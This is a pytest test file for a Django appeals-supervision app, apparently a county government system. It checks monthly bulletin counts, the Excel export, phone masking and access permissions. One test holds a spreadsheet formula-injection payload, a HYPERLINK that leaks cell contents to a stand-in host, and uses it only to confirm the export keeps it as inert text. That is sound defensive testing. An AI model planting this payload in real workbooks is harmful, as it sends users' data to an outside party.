"""The monthly bulletin: from the command, the page (printable) and the Excel download."""

from __future__ import annotations

import io
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from kuaiban.appeals import services
from kuaiban.conftest import user
from kuaiban.core import clock
from kuaiban.core.errors import ValidationFailed
from kuaiban.org.models import User
from kuaiban.supervision.bulletin import build, parse_month
from kuaiban.supervision.services import orders
from kuaiban.supervision.services.sweep import sweep
from kuaiban.supervision.tests.conftest import Walk, at

pytestmark = pytest.mark.django_db


@pytest.fixture
def november(walk: Walk, people: dict[str, User]) -> dict[str, str]:
    """Two appeals overdue at 住建局, one at 医保局, a return, a rework and an open order."""
    late1 = walk("dispatched")
    late2 = walk("in_progress", title="楼道灯不亮")
    late3 = walk("dispatched", unit="ybj", title="异地就医备案咨询无人答复")
    on_time = walk("dispatched", unit="cgj", title="占道经营")  # claimed in time
    with clock.frozen(at(11, 23, 10)):
        services.appeal_claim(actor=user("handler-cgj"), number=on_time.number or "")
        returned = walk("dispatched", when=at(11, 23, 9), unit="jtj", title="公交站牌损坏")
        services.appeal_return(
            actor=user("handler-jtj"), number=returned.number or "", reason="站牌属公交公司。"
        )
    sweep(now=at(11, 24, 9))  # claims of late1 and late3 overdue
    sweep(now=at(12, 8, 9))  # reply of late2 overdue (in December: not this month)
    with clock.frozen(at(11, 25, 9)):
        order = orders.order_issue(
            actor=user("supervisor"),
            appeal=late1.number,
            level="red",
            text="请立即认领并办理。",
            due="2026-11-27",
        )
    return {
        "late1": late1.number or "",
        "late2": late2.number or "",
        "late3": late3.number or "",
        "claimed": on_time.number or "",
        "order": order.number or "",
    }


def test_build_counts_the_month(november: dict[str, str]) -> None:
    with clock.frozen(at(12, 8, 10)):
        b = build(2026, 11)
    overdue = {o.number for o in b.overdue}
    assert overdue == {november["late1"], november["late3"]}
    assert [(u.unit, u.overdue) for u in b.units if u.overdue] == [("住建局", 1), ("医保局", 1)]
    assert b.returns == 1
    assert [o.number for o in b.orders] == [november["order"]]
    assert b.orders[0].overdue is True
    assert b.summary.startswith("2026年11月（截至月末），全县共受理诉求5件")
    assert "当月发生超期的诉求2件（含往月受理、本月超过时限的），涉及2个单位" in b.summary
    assert "退单1件" in b.summary and "在办督办单1件，其中已超期1件" in b.summary
    with clock.frozen(at(12, 8, 10)):
        december = build(2026, 12)
    # In December both appeals in progress miss their reply deadline (7 December).
    assert {o.number for o in december.overdue} == {november["late2"], november["claimed"]}
    assert december.received == 0
    # A month in progress is counted up to today, and says so: not "截至月末" on 8 December.
    assert december.summary.startswith("2026年12月（截至12月8日），")
    assert "截至月末" not in december.summary and "截至12月8日，在办督办单" in december.summary


def test_an_empty_month_says_so(db: None) -> None:
    b = build(2026, 1)
    assert "当月无超期诉求" in b.summary and "无在办督办单" in b.summary


@pytest.mark.parametrize("bad", ["2026-13", "2026/11", "November", "", "1999-01"])
def test_bad_months_are_refused(db: None, bad: str) -> None:
    with pytest.raises(ValidationFailed):
        parse_month(bad)


def test_command_prints_and_writes_the_workbook(november: dict[str, str], tmp_path: Path) -> None:
    out = StringIO()
    target = tmp_path / "通报-2026-11.xlsx"
    with clock.frozen(at(12, 8, 10)):
        call_command("bulletin", month="2026-11", xlsx=target, stdout=out)
    text = out.getvalue()
    assert text.startswith("2026年11月诉求办理情况通报")
    assert november["late1"] in text and november["order"] in text
    wb = load_workbook(target)
    assert wb.sheetnames == ["概要", "超期诉求", "单位排名", "督办单"]
    rows = list(wb["超期诉求"].iter_rows(values_only=True))
    assert rows[0][0] == "编号" and {r[0] for r in rows[1:]} == {
        november["late1"],
        november["late3"],
    }
    with pytest.raises(CommandError):
        call_command("bulletin", month="2026-13", stdout=StringIO())


def test_page_download_and_permissions(november: dict[str, str], client: Any, api: Any) -> None:
    client.force_login(user("leader"))
    with clock.frozen(at(12, 8, 10)):
        page = client.get("/supervision/bulletin/", {"month": "2026-11"})
        assert page.status_code == 200
        html = page.content.decode()
        assert "2026年11月诉求办理情况通报" in html and "data-print" in html
        assert november["late1"] in html
        xlsx = client.get("/supervision/bulletin/", {"month": "2026-11", "format": "xlsx"})
    assert xlsx.status_code == 200
    assert xlsx["Content-Disposition"] == 'attachment; filename="bulletin-2026-11.xlsx"'
    wb = load_workbook(io.BytesIO(xlsx.content))
    assert "全县共受理诉求5件" in str(wb["概要"]["A2"].value)
    assert client.get("/supervision/bulletin/", {"month": "2026-99"}).status_code == 400
    for who in ("handler-zjj", "operator", "visitor"):
        client.force_login(user(who))
        assert client.get("/supervision/bulletin/").status_code == 403
    with clock.frozen(at(12, 8, 10)):
        r = api("supervisor").get("/bulletins/2026-11")
    assert r.status == 200 and r.body["summary"].startswith("2026年11月")
    assert api("handler-zjj").get("/bulletins/2026-11").status == 403
    assert api("supervisor").get("/bulletins/2026-1x").status == 400


def test_late_return_visits_are_listed_but_not_held_against_the_unit(
    walk: Walk, people: dict[str, User]
) -> None:
    appeal = walk("replied")  # visit due Thursday 26th
    sweep(now=at(11, 27, 9))
    with clock.frozen(at(11, 27, 10)):
        b = build(2026, 11)
    assert [(o.number, o.stage, o.unit) for o in b.overdue] == [(appeal.number, "回访", "（回访）")]
    assert all(u.overdue == 0 for u in b.units)


INJECTION = '=HYPERLINK("http://x/?leak="&C2&D2,"点击查看")'


def test_the_workbook_keeps_formulas_as_text_and_masks_numbers(
    walk: Walk, make_appeal: Any, client: Any
) -> None:
    """An overdue appeal titled like a formula, with a phone in it, and a report (举报)."""
    late = walk("dispatched", title=INJECTION)
    phoned = walk("dispatched", unit="ybj", title="医保报销 联系电话13812342222 无人答复")
    with clock.frozen(at(11, 23, 8)):
        supervisor = user("supervisor")
        report = make_appeal(kind="report", title="举报某单位违规收费", actor=supervisor)
        services.appeal_dispatch(actor=supervisor, number=report.number or "", unit="zjj")
    sweep(now=at(11, 24, 9))  # all three claims overdue
    client.force_login(user("leader"))
    with clock.frozen(at(12, 8, 10)):
        xlsx = client.get("/supervision/bulletin/", {"month": "2026-11", "format": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["超期诉求"]
    titles = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert titles[late.number].value == INJECTION
    assert titles[late.number].data_type == "s" and titles[late.number].quotePrefix
    assert titles[phoned.number].value == "医保报销 联系电话*********** 无人答复"
    assert titles[report.number].value == "（举报件，内容保密）"


def test_overdue_co_unit_parts_are_named_against_the_co_unit(make_appeal: Any) -> None:
    """A part answered after its due, or still unanswered past it, is in the month's overdue
    list as 协办 and counts against the co-unit, like an overdue lead."""
    numbers = []
    with clock.frozen(at(11, 2, 9)):  # reply due 16 November, parts due Friday 13 November
        for co in ("cgj", "sthj", "ybj"):
            appeal = make_appeal(title="人民路路面坑洼", content="人民路路面坑洼不平，雨天积水。")
            services.appeal_dispatch(
                actor=user("operator"), number=appeal.number, unit="jtj", co_units=[co]
            )
            numbers.append(appeal.number)
    text = "已清运路边建筑垃圾。"
    with clock.frozen(at(11, 10, 9)):
        services.appeal_assist(
            actor=user("handler-ybj"), number=numbers[2], text=text, result="resolved"
        )
    with clock.frozen(at(11, 16, 9)):
        services.appeal_assist(
            actor=user("handler-cgj"), number=numbers[0], text=text, result="resolved"
        )
    with clock.frozen(at(12, 1, 10)):
        b = build(2026, 11)
    parts = sorted((o.number, o.unit, o.stage) for o in b.overdue if o.stage == "协办")
    assert parts == [(numbers[0], "城管局", "协办"), (numbers[1], "生态环境分局", "协办")]
    assert {u.unit: u.overdue for u in b.units if u.overdue} == {"城管局": 1, "生态环境分局": 1}
